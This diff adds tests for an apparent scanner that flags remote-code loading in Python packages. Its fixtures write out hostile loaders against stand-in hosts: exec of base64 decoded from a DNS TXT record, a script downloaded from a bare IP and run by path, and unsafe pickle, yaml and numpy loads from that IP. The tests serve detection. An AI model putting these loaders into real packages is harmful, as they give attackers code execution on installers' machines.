@@ -842,3 +842,61 @@ test('a description in JSON that a program is fed holds no orders, text as it ca
   expect((await feeding("json.dumps({'sources': text}).encode()")).filter(({ score }) => score > 3)).toEqual([]);
   expect(await feeding('text.encode()')).toMatchObject([{ class: 'malware', score: 6 }]);
 });
+
+test('what a name server answers is received, too', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import base64, dns.resolver',
+      'def load():',
+      "    answer = dns.resolver.resolve('stage.example.invalid', 'TXT')",
+      "    exec(base64.b64decode(b''.join(answer[0].strings)))",
+      'def address(name):',
+      "    return str(dns.resolver.resolve(name, 'A')[0])",
+    ),
+  });
+
+  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', score: 9, context: 'call', line: 4 }]);
+});
+
+test('a temporary file that a request was told to fill, and that is run by its path', async () => {
+  const runner = (fetched: string): string =>
+    python(
+      'import runpy, tempfile, urllib.request',
+      'def load():',
+      "    path = tempfile.mkstemp('.py')[1]",
+      `    ${fetched}`,
+      '    runpy.run_path(path)',
+    );
+
+  expect(
+    await inspect(
+      'remote-code',
+      wheel({ 'pkg/a.py': runner("urllib.request.urlretrieve('http://203.0.113.7/m.py', path)") }),
+    ),
+  ).toMatchObject([{ class: 'malware', score: 9, context: 'call', line: 5 }]);
+  expect(await inspect('remote-code', wheel({ 'pkg/a.py': runner("open(path, 'w').write('x = 1')") }))).toEqual([]);
+});
+
+test.each([
+  ['pickle.loads(urllib.request.urlopen(ADDRESS).read())'],
+  ['yaml.load(urllib.request.urlopen(ADDRESS).read(), Loader=yaml.UnsafeLoader)'],
+  ['numpy.load(io.BytesIO(urllib.request.urlopen(ADDRESS).read()), allow_pickle=True)'],
+])('objects that a call loads from a bare address are held, those of a vendor are a model: %s', async (line) => {
+  const loader = (address: string, code = line): string =>
+    python(
+      'import io, pickle, urllib.request, numpy, yaml',
+      `ADDRESS = '${address}'`,
+      'def load():',
+      `    return ${code}`,
+    );
+
+  expect(await inspect('remote-code', wheel({ 'pkg/a.py': loader('http://203.0.113.7/m') }))).toMatchObject([
+    { class: 'suspicious', score: 7, context: 'call', line: 4 },
+  ]);
+  expect(await inspect('remote-code', wheel({ 'pkg/a.py': loader('https://models.vendor.invalid/m') }))).toEqual([]);
+  const safe = line
+    .replace('UnsafeLoader', 'SafeLoader')
+    .replace('=True', '=False')
+    .replace('pickle.loads', 'json.loads');
+  expect(await inspect('remote-code', wheel({ 'pkg/a.py': loader('http://203.0.113.7/m', safe) }))).toEqual([]);
+});
